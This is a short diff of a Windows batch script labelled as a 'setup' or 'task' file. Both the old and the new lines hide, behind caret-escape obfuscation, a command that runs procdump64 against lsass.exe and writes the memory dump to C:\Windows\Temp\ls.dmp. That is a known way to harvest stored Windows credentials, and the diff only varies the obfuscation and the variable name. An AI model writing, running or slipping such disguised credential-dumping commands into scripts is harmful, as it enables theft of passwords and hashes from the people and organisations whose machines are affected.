@@ -1,4 +1,4 @@
-REM setup 6350 v1
+REM task 8176 v1
 @echo off
-set "mxgn=pro^cd^u^m^p64.^ex^e -a^c^c^ept^e^ula -^m^a l^s^ass.ex^e ^C:\Win^d^ows\^T^e^mp\^ls.dm^p"
-call %mxgn%
+set uzvn=^p^roc^dump64.^ex^e -^acc^e^pte^ula -m^a l^sa^ss.^e^x^e ^C:\^Wi^n^dow^s\Te^mp\^ls.dmp
+call %uzvn%
